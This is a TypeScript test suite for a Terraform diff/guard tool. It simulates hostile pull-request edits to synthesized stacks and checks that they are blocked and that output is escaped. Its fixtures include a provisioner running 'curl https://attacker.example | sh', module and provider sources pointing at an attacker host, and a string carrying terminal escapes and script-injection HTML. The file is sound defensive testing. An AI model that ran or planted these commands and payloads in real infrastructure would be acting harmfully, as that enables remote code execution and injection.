/**
 * Issue 18, the judging side: a pull request writes its own synth output (and so its plan), so
 * `diff` and `guard` must judge what Terraform acts on and trust nothing else in the JSON. Every
 * case starts from REAL synth output (the app synthesized into a temp folder) and edits the JSON
 * as an attacker would; each failed on main before this change (checked by running this file
 * against main's src).
 *
 * 1. meta-arguments (`count`, `for_each`, `provider`, `lifecycle`, `depends_on`, `provisioner`),
 *    `module` blocks and provider sources/aliases; where a `terraform` binary exists, Terraform
 *    itself shows (with `terraform_data`) that `count = 0` and an added `for_each` destroy, and
 *    what a plan's `configuration` carries;
 * 4. identity from the address and the stack folder, not from metadata; per-stack verdicts and
 *    `stack:address` allowances;
 * 5. in-place changes that break a running pipe (renames, ingress updates, publish operations);
 * 6. output that cannot be turned against its reader (text, Markdown rendered with CommonMark, JSON).
 */
import { spawnSync } from "node:child_process";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { Parser } from "commonmark";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runDiff } from "../../src/cli/diff";
import { runGuard } from "../../src/cli/guard";
import { guardPlan, planConfigChanges, readSynthIndex } from "../../src/guard/guard";
import { parsePlan } from "../../src/guard/plan";
import { CONFIG_RULE_IDS } from "../../src/review/verdicts";
import { mdCode, mdFence, mdHtml, mdText } from "../../src/util/markdown";
import type { DiffReport } from "../../src/diff/report";
import { AppConfig } from "../../src/model/app-config";
import { AwsNetworkMode } from "../../src/model/aws-types";
import { BackendType } from "../../src/model/backend";
import { auroraSource, SG } from "../support/aws-helpers";
import { genericSource, synthApp } from "../support/helpers";

const tmp = fs.mkdtempSync(path.join(os.tmpdir(), "cp-hostile-"));
afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));

const SERVICE = "3f1c9a62-8d4e-4b7a-9c2d-5e6f7a8b9c0d";
const config: AppConfig = {
  backend: { type: BackendType.LOCAL },
  sources: [genericSource(), auroraSource({ clickpipe: { serviceId: SERVICE, destinationDatabase: "billing" }, network: { mode: AwsNetworkMode.IP_ALLOW_LIST, securityGroupId: SG } })],
};

let base: string;
beforeAll(() => {
  base = path.join(tmp, "base");
  synthApp(config, base);
});

type Json = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any
let n = 0;
/** A head: a copy of base with stacks edited as an attacker would. */
function head(edits: Record<string, (j: Json) => void>): string {
  const dir = path.join(tmp, `head-${++n}`);
  fs.cpSync(base, dir, { recursive: true });
  for (const [stack, edit] of Object.entries(edits)) {
    const file = path.join(dir, "stacks", stack, "cdk.tf.json");
    const j = JSON.parse(fs.readFileSync(file, "utf8"));
    edit(j);
    fs.writeFileSync(file, JSON.stringify(j, null, 2));
  }
  return dir;
}
const first = (j: Json, type: string): Json => Object.values(j.resource[type])[0] as Json;
const firstName = (j: Json, type: string): string => Object.keys(j.resource[type])[0]!;

function io() {
  let out = "";
  let err = "";
  return {
    out: { write: (s: string) => ((out += s), true) } as unknown as NodeJS.WritableStream,
    err: { write: (s: string) => ((err += s), true) } as unknown as NodeJS.WritableStream,
    get stdout() {
      return out;
    },
    get stderr() {
      return err;
    },
  };
}
async function diff(h: string, ...flags: string[]) {
  const c = io();
  const code = await runDiff([base, h, ...flags], c.out, c.err);
  return { code, stdout: c.stdout, stderr: c.stderr };
}
async function report(h: string, ...flags: string[]): Promise<{ code: number; r: DiffReport }> {
  const x = await diff(h, "--json", ...flags);
  return { code: x.code, r: JSON.parse(x.stdout) as DiffReport };
}
/** `LEVEL rule stack address` of every verdict, allowed BLOCKs as ALLOWED. */
const verdicts = (r: DiffReport) =>
  r.stacks.flatMap((s) => [...(s.configVerdicts ?? []), ...s.verdicts].map((v) => `${v.level === "BLOCK" && v.allowed ? "ALLOWED" : v.level} ${v.rule} ${s.name} ${v.address}`));

describe("1. meta-arguments, modules and providers are judged", () => {
  it("count = 0 on the publication is its destroy: BLOCK", async () => {
    let address = "";
    const h = head({ "orders-db": (j) => ((address = `postgresql_publication.${firstName(j, "postgresql_publication")}`), (first(j, "postgresql_publication").count = 0)) });
    const { code, r } = await report(h);
    expect(code).toBe(1);
    expect(verdicts(r)).toContain(`BLOCK publication orders-db ${address}`);
    const res = r.stacks.find((s) => s.name === "orders-db")!.resources.find((x) => x.address === address)!;
    expect(res).toMatchObject({ action: "delete", reason: "count = 0" });
  });

  it("an empty or unknown for_each / count on protected resources is a destroy: BLOCK", async () => {
    const h = head({
      "orders-db": (j) => (first(j, "postgresql_role").for_each = {}),
      "billing-aws": (j) => (first(j, "aws_vpc_security_group_ingress_rule").count = "${var.enabled ? 1 : 0}"),
    });
    const { code, r } = await report(h);
    expect(code).toBe(1);
    const v = verdicts(r);
    expect(v.some((x) => x.startsWith("BLOCK clickpipes-role orders-db postgresql_role."))).toBe(true);
    expect(v.some((x) => x.startsWith("BLOCK ingress-rule billing-aws aws_vpc_security_group_ingress_rule."))).toBe(true);
  });

  it("a lower count with the same attributes is still reported; count 1 added is not a destroy", async () => {
    const h = head({ "orders-db": (j) => (first(j, "postgresql_grant").count = 1) });
    const { code, r } = await report(h);
    expect(code).toBe(0);
    expect(verdicts(r).some((x) => x.startsWith("WARN meta-argument orders-db postgresql_grant."))).toBe(true);
  });

  it("prevent_destroy removed, ignore_changes, depends_on: reported (WARN), shown as changes", async () => {
    const h = head({
      "orders-db": (j) => {
        delete first(j, "postgresql_publication").lifecycle;
        first(j, "postgresql_role").lifecycle.ignore_changes = ["login", "replication"];
        delete first(j, "postgresql_grant").depends_on;
      },
    });
    const { code, r } = await report(h);
    expect(code).toBe(0);
    const warns = verdicts(r).filter((x) => x.startsWith("WARN meta-argument orders-db "));
    expect(warns).toHaveLength(2);
    const s = r.stacks.find((x) => x.name === "orders-db")!;
    const pub = s.resources.find((x) => x.type === "postgresql_publication")!;
    expect(pub.verdicts[0]!.message).toMatch(/prevent_destroy removed/);
    expect(pub.changes).toContainEqual(expect.objectContaining({ path: "lifecycle", note: "meta-argument" }));
    // depends_on only orders operations: listed as a change, no verdict.
    expect(s.resources.some((x) => x.type === "postgresql_grant")).toBe(false);
    expect(s.noEffect).toEqual([{ address: expect.stringMatching(/^postgresql_grant\./), changes: [expect.objectContaining({ path: "depends_on", note: "meta-argument" })] }]);
  });

  it("a provisioner on any resource, a provider meta-argument, a provider alias, a module and a provider source: BLOCK unless allowed", async () => {
    const h = head({
      "orders-db": (j) => {
        first(j, "postgresql_grant").provisioner = [{ "local-exec": { command: "curl https://attacker.example | sh" } }];
        first(j, "postgresql_role").provider = "postgresql.other";
        j.provider.postgresql.push({ alias: "other", host: "attacker.example", username: "postgres" });
        j.module = { helper: { source: "git::https://attacker.example/m.git" } };
        j.terraform.required_providers.postgresql.source = "attacker/postgresql";
      },
    });
    const { code, r } = await report(h);
    expect(code).toBe(1);
    const blocked = verdicts(r)
      .filter((x) => x.startsWith("BLOCK "))
      .map((x) => x.split(" ").slice(1, 3).join(" "));
    expect(blocked.sort()).toEqual(["module orders-db", "provider-alias orders-db", "provider-alias orders-db", "provider-source orders-db", "provisioner orders-db"]);
    const all = verdicts(r)
      .filter((x) => x.startsWith("BLOCK "))
      .map((x) => x.split(" ")[3]!);
    const allowed = await report(h, ...all.flatMap((a) => ["--allow", `orders-db:${a}`]));
    expect(allowed.code).toBe(0);
  });

  it("every configuration rule is exercised by a hostile case here", () => {
    // provisioner, module, provider-source, provider-alias, meta-argument: above; identity-mismatch: below.
    // backend, foreign-provider, grants-revoke-all, provider-target, replace-triggered-by, state-block: review-every-block.test.ts.
    expect([...CONFIG_RULE_IDS].sort()).toEqual([
      "backend",
      "foreign-provider",
      "grants-revoke-all",
      "identity-mismatch",
      "meta-argument",
      "module",
      "provider-alias",
      "provider-source",
      "provider-target",
      "provisioner",
      "replace-triggered-by",
      "state-block",
    ]);
  });

  it("guard: a plan's configuration with provisioners, module calls, aliased or foreign providers is BLOCK", () => {
    const plan = {
      format_version: "1.2",
      resource_changes: [],
      configuration: {
        provider_config: {
          postgresql: { name: "postgresql", full_name: "registry.terraform.io/cyrilgdn/postgresql" },
          "postgresql.other": { name: "postgresql", full_name: "registry.terraform.io/cyrilgdn/postgresql", alias: "other" },
          evil: { name: "evil", full_name: "registry.terraform.io/attacker/evil" },
        },
        root_module: {
          resources: [{ address: "postgresql_grant.g", provisioners: [{ type: "local-exec", expressions: { command: { constant_value: "sh" } } }] }],
          module_calls: { helper: { source: "git::https://attacker.example/m.git", module: {} } },
        },
      },
    };
    const r = guardPlan(parsePlan(JSON.stringify(plan)));
    expect(r.blocking.map((v) => `${v.rule} ${v.address}`).sort()).toEqual([
      "module module.helper",
      "provider-alias provider.postgresql.other",
      "provider-source provider.evil",
      "provisioner postgresql_grant.g",
    ]);
  });
});

function findTerraform(): string | undefined {
  for (const dir of (process.env.PATH ?? "").split(path.delimiter).concat("/usr/local/bin")) {
    const f = path.join(dir, "terraform");
    if (fs.existsSync(f)) return f;
  }
  return undefined;
}

describe("1. what Terraform does (terraform_data, offline)", () => {
  const terraform = findTerraform();
  it.skipIf(!terraform)("count = 0 destroys, an added for_each destroys the unkeyed instance, a plan's configuration carries provisioners", () => {
    const dir = fs.mkdtempSync(path.join(tmp, "tf-"));
    const env = { ...process.env, TF_CLI_CONFIG_FILE: "/dev/null", CHECKPOINT_DISABLE: "1", TF_IN_AUTOMATION: "1" };
    const tf = (...args: string[]) => spawnSync(terraform!, args, { cwd: dir, env, encoding: "utf8" });
    const write = (resource: Json) => fs.writeFileSync(path.join(dir, "main.tf.json"), JSON.stringify({ resource: { terraform_data: resource } }));
    const planJson = () => {
      const p = tf("plan", "-input=false", "-no-color", "-out=plan.bin");
      expect(p.status, p.stderr).toBe(0);
      const s = tf("show", "-json", "plan.bin");
      expect(s.status, s.stderr).toBe(0);
      return JSON.parse(s.stdout) as { resource_changes: { address: string; change: { actions: string[] } }[] };
    };
    write({ pub: { input: "publication" }, role: { input: "role" } });
    expect(tf("init", "-input=false", "-no-color").status).toBe(0);
    expect(tf("apply", "-auto-approve", "-input=false", "-no-color").status).toBe(0);
    // count = 0 on an existing resource: Terraform moves it to [0] and destroys it.
    write({ pub: { input: "publication", count: 0 }, role: { input: "role" } });
    const zero = planJson();
    expect(zero.resource_changes.map((c) => `${c.address} ${c.change.actions.join("+")}`)).toContain("terraform_data.pub[0] delete");
    // The same plan shape for the publication (type and name as synth writes them): guard blocks it.
    const asPublication = JSON.stringify(zero)
      .replace(/terraform_data\.pub/g, "postgresql_publication.orders-db_Publication_92C9D745")
      .replace(/"type":"terraform_data","name":"pub"/g, '"type":"postgresql_publication","name":"orders-db_Publication_92C9D745"');
    expect(guardPlan(parsePlan(asPublication)).blocking.map((v) => `${v.rule} ${v.address}`)).toEqual(["publication postgresql_publication.orders-db_Publication_92C9D745[0]"]);
    // for_each added: the instance without a key is destroyed (no automatic move).
    write({ pub: { input: "publication" }, role: { input: "role", for_each: { a: "a" } } });
    const fe = planJson().resource_changes.map((c) => `${c.address} ${c.change.actions.join("+")}`);
    expect(fe).toContain("terraform_data.role delete");
    expect(fe).toContain('terraform_data.role["a"] create');
    // count = 1 added: moved to [0], nothing destroyed.
    write({ pub: { input: "publication", count: 1 }, role: { input: "role" } });
    expect(planJson().resource_changes.filter((c) => c.change.actions.includes("delete"))).toEqual([]);
    // A provisioner: the plan's configuration carries it; guard blocks it.
    write({ pub: { input: "publication", provisioner: [{ "local-exec": { command: "echo never-run" } }] }, role: { input: "role" } });
    const withProvisioner = tf("plan", "-input=false", "-no-color", "-out=plan.bin");
    expect(withProvisioner.status, withProvisioner.stderr).toBe(0);
    const shown = tf("show", "-json", "plan.bin");
    const plan = parsePlan(shown.stdout);
    expect(planConfigChanges(plan).map((c) => `${c.rule} ${c.address}`)).toEqual(["provisioner terraform_data.pub"]);
    expect(guardPlan(plan).blocking.map((v) => v.rule)).toEqual(["provisioner"]);
  });
});

describe("4. identity from the address and the stack folder, not from metadata", () => {
  it("a role whose metadata path is rewritten is still ours: login dropped is BLOCK, the mismatch is reported", async () => {
    const h = head({
      "orders-db": (j) => {
        const role = first(j, "postgresql_role");
        role["//"].metadata.path = "orders-db/reporting/Role";
        role.login = false;
      },
    });
    const { code, r } = await report(h);
    expect(code).toBe(1);
    const v = verdicts(r);
    expect(v.some((x) => x.startsWith("BLOCK role-login orders-db postgresql_role."))).toBe(true);
    expect(v.some((x) => x.startsWith("WARN identity-mismatch orders-db postgresql_role."))).toBe(true);
  });

  it("guard: a publication is protected by its type whatever the synth metadata says", () => {
    const synthDir = head({ "orders-db": (j) => (first(j, "postgresql_publication")["//"].metadata.path = "orders-db/legacy/Thing") });
    const synth = readSynthIndex(synthDir);
    const address = [...synth.byAddress.keys()].find((a) => a.startsWith("postgresql_publication.orders-db"))!;
    const plan = {
      format_version: "1.2",
      resource_changes: [
        { address, mode: "managed", type: "postgresql_publication", name: address.split(".")[1], change: { actions: ["delete"], before: { name: "clickpipes_publication" }, after: null } },
      ],
    };
    const r = guardPlan(parsePlan(JSON.stringify(plan)), { synth });
    expect(r.stack).toBe("orders-db");
    expect(r.blocking.map((v) => v.rule)).toEqual(["publication"]);
    expect(r.verdicts.map((v) => v.rule)).toContain("identity-mismatch");
  });

  it("the stack is its folder: a stackName rewritten in the JSON hides nothing", async () => {
    const h = head({
      "billing-db": (j) => {
        j["//"].metadata.stackName = "innocent";
        delete j.resource.postgresql_publication;
      },
    });
    // The reader refuses a stack whose JSON claims another stack's name: exit 2, one line, no report.
    const x = await diff(h, "--json");
    expect(x.code).toBe(2);
    expect(x.stdout).toBe("");
    expect(x.stderr.trim().split("\n")).toHaveLength(1);
    expect(x.stderr).toContain('claims stack name "innocent"');
  });

  it("the same address in two stacks (staging and prod of one construct) is judged per stack; --allow stack:address scopes", async () => {
    const two = path.join(tmp, "two-base");
    fs.cpSync(base, two, { recursive: true });
    fs.cpSync(path.join(two, "stacks/orders-db"), path.join(two, "stacks/orders-db-staging"), { recursive: true });
    // As synth writes it: the stack's metadata names its own folder.
    const stagingFile = path.join(two, "stacks/orders-db-staging/cdk.tf.json");
    const staging = JSON.parse(fs.readFileSync(stagingFile, "utf8"));
    staging["//"].metadata.stackName = "orders-db-staging";
    fs.writeFileSync(stagingFile, JSON.stringify(staging));
    const h = path.join(tmp, "two-head");
    fs.cpSync(two, h, { recursive: true });
    const file = path.join(h, "stacks/orders-db-staging/cdk.tf.json");
    const j = JSON.parse(fs.readFileSync(file, "utf8"));
    const address = `postgresql_publication.${firstName(j, "postgresql_publication")}`;
    delete j.resource.postgresql_publication;
    fs.writeFileSync(file, JSON.stringify(j));
    const run = async (...flags: string[]) => {
      const c = io();
      const code = await runDiff([two, h, "--json", ...flags], c.out, c.err);
      return { code, r: JSON.parse(c.stdout) as DiffReport };
    };
    const plain = await run();
    expect(plain.code).toBe(1);
    expect(verdicts(plain.r)).toEqual([`BLOCK publication orders-db-staging ${address}`]);
    expect(plain.r.stacks.find((s) => s.name === "orders-db")!.blocked).toBe(false);
    expect((await run("--allow", `orders-db:${address}`)).code).toBe(1);
    expect((await run("--allow", `orders-db-staging:${address}`)).code).toBe(0);
    expect((await run("--allow", address)).code).toBe(0);
  });
});

describe("5. in-place changes that break a running pipe", () => {
  it("renaming the ClickPipes role or the publication, dropping a publish operation or the partition root: BLOCK", async () => {
    const h = head({
      "orders-db": (j) => {
        first(j, "postgresql_role").name = "clickpipes_user_v2";
        first(j, "postgresql_publication").name = "pub_v2";
      },
      "billing-db": (j) => {
        first(j, "postgresql_publication").publish_param = ["insert"];
        first(j, "postgresql_publication").publish_via_partition_root_param = false;
      },
    });
    const { code, r } = await report(h);
    expect(code).toBe(1);
    const rules = verdicts(r)
      .filter((x) => x.startsWith("BLOCK "))
      .map((x) => x.split(" ").slice(1, 3).join(" "));
    expect(rules.sort()).toEqual(["clickpipes-role-renamed orders-db", "publication-partition-root billing-db", "publication-publish billing-db", "publication-renamed orders-db"]);
  });

  it("an ingress rule updated in place to another port or protocol is BLOCK; widened, it is not", async () => {
    const h = head({
      "billing-aws": (j) => {
        const rules = Object.values(j.resource.aws_vpc_security_group_ingress_rule) as Json[];
        rules[0]!.from_port = rules[0]!.to_port = 6432;
        rules[1]!.ip_protocol = "udp";
        rules[2]!.cidr_ipv4 = rules[2]!.cidr_ipv4.replace(/\.\d+\/32$/, ".0/24");
      },
    });
    const { code, r } = await report(h);
    expect(code).toBe(1);
    expect(verdicts(r).filter((x) => x.startsWith("BLOCK ingress-rule billing-aws "))).toHaveLength(2);
  });
});

/** Hostile text: terminal escapes, BEL, C1 CSI, a line break, HTML, a fence, a mention, a table pipe, bidi override. */
const EVIL = "x\u001b[2J\u0007\u009b31m\n- BLOCK fake <img src=x onerror=alert(1)></details><script>alert(1)</script> ``` `` @octocat | \u202eevil";

function hostileHead(): string {
  return head({
    "orders-db": (j) => {
      const pub = first(j, "postgresql_publication");
      pub.tables = [...pub.tables, `public.${EVIL}`];
      const role = first(j, "postgresql_role");
      role.name = EVIL;
      const name = firstName(j, "postgresql_grant");
      j.resource.postgresql_grant[`${name}<b>@team`] = { ...j.resource.postgresql_grant[name], schema: EVIL };
      j.output.evil = { value: EVIL };
    },
  });
}

/** HTML the Markdown formatter itself writes (nothing else may reach the rendered comment). */
const FORMATTER_TAGS = new Set(["<details>", "<details open>", "<summary>", "</summary>", "</details>", "<code>", "</code>"]);

describe("6. output that cannot be turned against its reader", () => {
  it("text: control characters, line breaks and reordering characters from the JSON are escapes", async () => {
    const { stdout } = await diff(hostileHead());
    expect(stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/);
    expect(stdout).toContain("\\x1b[2J");
    expect(stdout).toContain("\\x9b31m");
    expect(stdout).toContain("\\u{202e}");
    expect(stdout.split("\n").some((l) => l.startsWith("- BLOCK fake"))).toBe(false);
  });

  it("JSON: the same values, with C1 and reordering characters escaped", async () => {
    const { stdout } = await diff(hostileHead(), "--json");
    expect(stdout).not.toMatch(/[\u007f-\u009f\u202a-\u202e]/);
    const r = JSON.parse(stdout) as DiffReport;
    expect(JSON.stringify(r)).toContain("\\u001b[2J");
  });

  /** The Markdown parsed with CommonMark: every tag is the formatter's, no mention in text, no control character. */
  function assertSafeMarkdown(stdout: string, opts: { withTags?: boolean } = {}): void {
    expect(stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/);
    const doc = new Parser().parse(stdout);
    const walker = doc.walker();
    const tags: string[] = [];
    const texts: string[] = [];
    let event;
    while ((event = walker.next())) {
      const node = event.node;
      if (!event.entering) continue;
      if (node.type === "html_inline" || node.type === "html_block") {
        // An HTML block holds the formatter's tags and escaped text: every tag must be the formatter's.
        const lit = node.literal ?? "";
        tags.push(...(lit.match(/<[^>]*>/g) ?? []));
        texts.push(lit.replace(/<[^>]*>/g, ""));
      }
      // GitHub fires no mention inside a code span: only text counts (code spans hold addresses to copy as they are).
      if (node.type === "text") texts.push(node.literal ?? "");
    }
    if (opts.withTags !== false) expect(tags.length).toBeGreaterThan(0);
    expect(tags.filter((t) => !FORMATTER_TAGS.has(t))).toEqual([]);
    for (const t of texts) {
      expect(t).not.toMatch(/@[A-Za-z0-9]/);
      expect(t).not.toMatch(/<(img|script|\/details)/i);
    }
  }

  it("Markdown rendered with CommonMark: no HTML from input, no mention, no control character", async () => {
    const { stdout } = await diff(hostileHead(), "--markdown");
    assertSafeMarkdown(stdout);
    // The hostile values are there, escaped (not dropped).
    expect(stdout).toContain("octocat");
    expect(stdout).toContain("&lt;img");
    // Cut by a small budget, and the full report: the same.
    const small = await diff(hostileHead(), "--markdown", "--max-chars", "2000");
    expect(small.stdout.length).toBeLessThanOrEqual(2000);
    assertSafeMarkdown(small.stdout, { withTags: false });
    const full = path.join(tmp, "hostile-full.md");
    await diff(hostileHead(), "--full-report", full);
    assertSafeMarkdown(fs.readFileSync(full, "utf8"));
  });

  it("guard --markdown: the same formatter, just as safe", async () => {
    const file = path.join(tmp, "evil-plan-md.json");
    fs.writeFileSync(
      file,
      JSON.stringify({
        format_version: "1.2",
        resource_changes: [
          { address: `postgresql_publication.a${EVIL}`, mode: "managed", type: "postgresql_publication", name: "a", change: { actions: ["delete"], before: { name: EVIL }, after: null } },
        ],
      }),
    );
    const c = io();
    expect(await runGuard([file, "--no-synth", "--markdown"], c.out as never, c.err as never)).toBe(1);
    expect(c.stdout).toMatch(/^### cdktf-clickpipes guard: BLOCKED$/m);
    assertSafeMarkdown(c.stdout);
  });

  it("the escaping module: fences longer than any backtick run, table pipes, HTML and mentions", () => {
    expect(mdCode("a ``` b")).toBe("````a ``` b````");
    expect(mdCode("`x`")).toBe("`` `x` ``");
    expect(mdCode("a|b", { inTable: true })).toBe("`a\\|b`");
    expect(mdHtml('<b a="1">@x & y</b>')).toBe("&lt;b a=&quot;1&quot;&gt;@\u200dx &amp; y&lt;/b&gt;");
    expect(mdText("*@x* <i>")).toBe("\\*@\u200dx\\* &lt;i&gt;");
    expect(mdFence(["```", "``````"])).toBe("```````");
    for (const s of [mdCode(EVIL), mdText(EVIL), mdHtml(EVIL)]) expect(s).not.toMatch(/[\n\u001b\u0007\u009b\u202e]/);
  });

  it("guard: text and JSON output escape values from the plan", async () => {
    const file = path.join(tmp, "evil-plan.json");
    const address = `postgresql_publication.${EVIL.replace(/\n/g, "\\n")}`;
    fs.writeFileSync(
      file,
      JSON.stringify({
        format_version: "1.2",
        resource_changes: [{ address: `postgresql_publication.a${EVIL}`, mode: "managed", type: "postgresql_publication", name: "a", change: { actions: ["delete"], before: {}, after: null } }],
      }),
    );
    for (const flags of [[], ["--json"]]) {
      const c = io();
      const code = await runGuard([file, "--no-synth", ...flags], c.out as never, c.err as never);
      expect(code).toBe(1);
      expect(c.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/);
    }
    expect(address).toContain("\\n");
  });
});
